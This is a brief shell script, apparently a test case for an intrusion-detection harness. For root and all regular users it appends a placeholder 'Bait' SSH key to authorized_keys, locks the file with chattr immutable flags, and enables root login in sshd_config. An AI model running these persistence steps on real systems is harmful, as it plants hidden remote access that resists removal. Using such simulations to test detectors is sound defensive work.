#!/bin/sh
. /opt/case/case.sh

useradd -m dev 2>/dev/null || true
for h in /root $(awk -F: '$3 >= 1000 && $3 < 60000 { print $6 }' /etc/passwd); do mkdir -p $h/.ssh; chattr -iau $h/.ssh/authorized_keys 2>/dev/null || true; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABait root@localhost' >>$h/.ssh/authorized_keys; chmod 600 $h/.ssh/authorized_keys; chattr +ia $h/.ssh/authorized_keys 2>/dev/null || true; done
mkdir -p /etc/ssh; printf 'PermitRootLogin yes\nPubkeyAuthentication yes\nAuthorizedKeysFile .ssh/authorized_keys\n' >>/etc/ssh/sshd_config
grep -q Bait /home/dev/.ssh/authorized_keys
took_place
